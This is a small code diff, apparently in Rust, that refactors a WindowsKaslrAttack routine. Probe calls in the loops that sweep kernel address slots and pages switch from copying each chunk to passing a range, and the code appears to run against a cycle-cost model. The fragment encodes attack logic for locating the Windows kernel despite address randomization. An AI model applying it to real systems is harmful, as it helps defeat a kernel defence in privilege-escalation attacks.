@@ -94,7 +94,7 @@ impl WindowsKaslrAttack {
         let region = AddrRange::new(start, WIN_KASLR_ALIGN, WIN_KERNEL_SLOTS);
         let mut candidates = 0u64;
         'sweep: for chunk in region.chunks(Self::SCAN_CHUNK_SLOTS) {
-            let sweep = self.attack.sweep(p, &chunk.to_vec());
+            let sweep = self.attack.sweep_range(p, &chunk);
             p.spend(PER_SLOT_OVERHEAD_CYCLES * chunk.count);
             probes += sweep.probes;
             // The whole chunk was probed even when the run confirms
@@ -144,7 +144,7 @@ impl WindowsKaslrAttack {
         let mut run_len = 0u64;
         let mut index = 0u64;
         for chunk in AddrRange::pages(window_start, pages).chunks(Self::SCAN_CHUNK_SLOTS) {
-            let sweep = self.attack.sweep(p, &chunk.to_vec());
+            let sweep = self.attack.sweep_range(p, &chunk);
             p.spend(PER_SLOT_OVERHEAD_CYCLES * chunk.count);
             for mapped in sweep.mapped {
                 if mapped {
